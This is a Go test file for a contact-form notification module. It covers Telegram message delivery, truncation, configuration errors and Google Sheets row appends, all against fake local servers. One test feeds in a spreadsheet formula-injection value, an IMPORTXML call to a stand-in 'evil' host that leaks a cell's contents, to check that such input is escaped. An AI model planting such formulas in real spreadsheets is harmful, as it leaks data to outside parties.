package notify

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"google.golang.org/api/option"

	"github.com/pauloqxm/portal-comite/internal/domain/contact"
	"github.com/pauloqxm/portal-comite/pkg/logger"
)

func init() {
	_ = logger.InitWithWriter(new(strings.Builder))
}

func sample() contact.Message {
	return contact.Message{
		ID:         "abc",
		ReceivedAt: time.Date(2025, 1, 5, 15, 0, 0, 0, time.UTC),
		Form: contact.Form{
			Name: "Maria", Email: "maria@example.com", CityState: "Quixadá/CE",
			Kind: "Solicitação de informação", Subject: "Vazões", Description: "Pergunta",
			Channel: "E-mail", Consent: true,
		},
	}
}

type fakeTelegram struct {
	mu   sync.Mutex
	sent []map[string]string
	fail bool
}

func (f *fakeTelegram) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	switch {
	case strings.HasSuffix(r.URL.Path, "/getMe"):
		_, _ = w.Write([]byte(`{"ok":true,"result":{"id":1,"is_bot":true,"first_name":"Portal","username":"portal_bot"}}`))
	case strings.HasSuffix(r.URL.Path, "/sendMessage"):
		f.mu.Lock()
		fail := f.fail
		f.mu.Unlock()
		if fail {
			_, _ = w.Write([]byte(`{"ok":false,"error_code":400,"description":"Bad Request: chat not found"}`))
			return
		}
		_ = r.ParseForm()
		f.mu.Lock()
		f.sent = append(f.sent, map[string]string{"chat_id": r.FormValue("chat_id"), "text": r.FormValue("text")})
		f.mu.Unlock()
		_, _ = w.Write([]byte(`{"ok":true,"result":{"message_id":7,"date":0,"chat":{"id":-100,"type":"group"}}}`))
	default:
		http.NotFound(w, r)
	}
}

func (f *fakeTelegram) messages() []map[string]string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([]map[string]string(nil), f.sent...)
}

func (f *fakeTelegram) setFail(v bool) {
	f.mu.Lock()
	f.fail = v
	f.mu.Unlock()
}

func TestTelegramDeliver(t *testing.T) {
	fake := &fakeTelegram{}
	srv := httptest.NewServer(fake)
	defer srv.Close()

	tg, err := NewTelegram("token", srv.URL+"/bot%s/%s", -100)
	require.NoError(t, err)
	assert.Equal(t, "telegram", tg.Name())

	require.NoError(t, tg.Deliver(context.Background(), sample()))
	sent := fake.messages()
	require.Len(t, sent, 1)
	assert.Equal(t, "-100", sent[0]["chat_id"])
	assert.Contains(t, sent[0]["text"], "Assunto: Vazões")

	fake.setFail(true)
	err = tg.Deliver(context.Background(), sample())
	assert.ErrorIs(t, err, ErrRejected)
}

func TestTelegramTruncatesLongText(t *testing.T) {
	fake := &fakeTelegram{}
	srv := httptest.NewServer(fake)
	defer srv.Close()

	tg, err := NewTelegram("token", srv.URL+"/bot%s/%s", 5)
	require.NoError(t, err)
	m := sample()
	m.Description = strings.Repeat("á", 5000)
	require.NoError(t, tg.Deliver(context.Background(), m))
	assert.Len(t, []rune(fake.messages()[0]["text"]), telegramMaxText)
}

func TestTelegramNotConfigured(t *testing.T) {
	_, err := NewTelegram("", "", 1)
	assert.ErrorIs(t, err, ErrNotConfigured)
	_, err = NewTelegram("token", "", 0)
	assert.ErrorIs(t, err, ErrNotConfigured)
}

func TestSheetAppenderDeliver(t *testing.T) {
	var (
		gotPath  string
		gotQuery string
		gotBody  struct {
			Values [][]interface{} `json:"values"`
		}
	)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		gotPath = r.URL.Path
		gotQuery = r.URL.RawQuery
		_ = json.NewDecoder(r.Body).Decode(&gotBody)
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{"spreadsheetId":"sheet-1","updates":{"updatedRange":"Respostas!A2:M2","updatedRows":1}}`))
	}))
	defer srv.Close()

	ctx := context.Background()
	app, err := NewSheetAppender(ctx, "sheet-1", "Respostas!A:M",
		option.WithEndpoint(srv.URL+"/"), option.WithoutAuthentication())
	require.NoError(t, err)
	assert.Equal(t, "sheets", app.Name())

	require.NoError(t, app.Deliver(ctx, sample()))
	assert.True(t, strings.HasPrefix(gotPath, "/v4/spreadsheets/sheet-1/values/"), gotPath)
	assert.True(t, strings.HasSuffix(gotPath, ":append"), gotPath)
	assert.Contains(t, gotQuery, "valueInputOption=RAW")
	require.Len(t, gotBody.Values, 1)
	row := gotBody.Values[0]
	require.Len(t, row, 13)
	assert.Equal(t, "05/01/2025 12:00:00", row[0])
	assert.Equal(t, "Maria", row[1])
	assert.Equal(t, "Sim", row[11])
}

func TestSheetAppenderQuotesFormulas(t *testing.T) {
	var (
		gotQuery string
		gotBody  struct {
			Values [][]interface{} `json:"values"`
		}
	)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		gotQuery = r.URL.RawQuery
		_ = json.NewDecoder(r.Body).Decode(&gotBody)
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{"spreadsheetId":"sheet-1"}`))
	}))
	defer srv.Close()

	ctx := context.Background()
	app, err := NewSheetAppender(ctx, "sheet-1", "Respostas!A:M",
		option.WithEndpoint(srv.URL+"/"), option.WithoutAuthentication())
	require.NoError(t, err)

	m := sample()
	m.Name = `=IMPORTXML("http://evil/"&A1,"//a")`
	m.Subject = "+55 88 9999"
	require.NoError(t, app.Deliver(ctx, m))

	assert.Contains(t, gotQuery, "valueInputOption=RAW")
	assert.NotContains(t, gotQuery, "USER_ENTERED")
	require.Len(t, gotBody.Values, 1)
	row := gotBody.Values[0]
	assert.Equal(t, `'=IMPORTXML("http://evil/"&A1,"//a")`, row[1])
	assert.Equal(t, "'+55 88 9999", row[8])
	assert.Equal(t, "maria@example.com", row[2])
}

func TestSheetAppenderUpstreamError(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		http.Error(w, `{"error":{"code":403,"message":"denied"}}`, http.StatusForbidden)
	}))
	defer srv.Close()

	ctx := context.Background()
	app, err := NewSheetAppender(ctx, "sheet-1", "Respostas!A:M",
		option.WithEndpoint(srv.URL+"/"), option.WithoutAuthentication())
	require.NoError(t, err)
	assert.ErrorIs(t, app.Deliver(ctx, sample()), ErrRejected)

	_, err = NewSheetAppender(ctx, "", "Respostas!A:M")
	assert.ErrorIs(t, err, ErrNotConfigured)
}
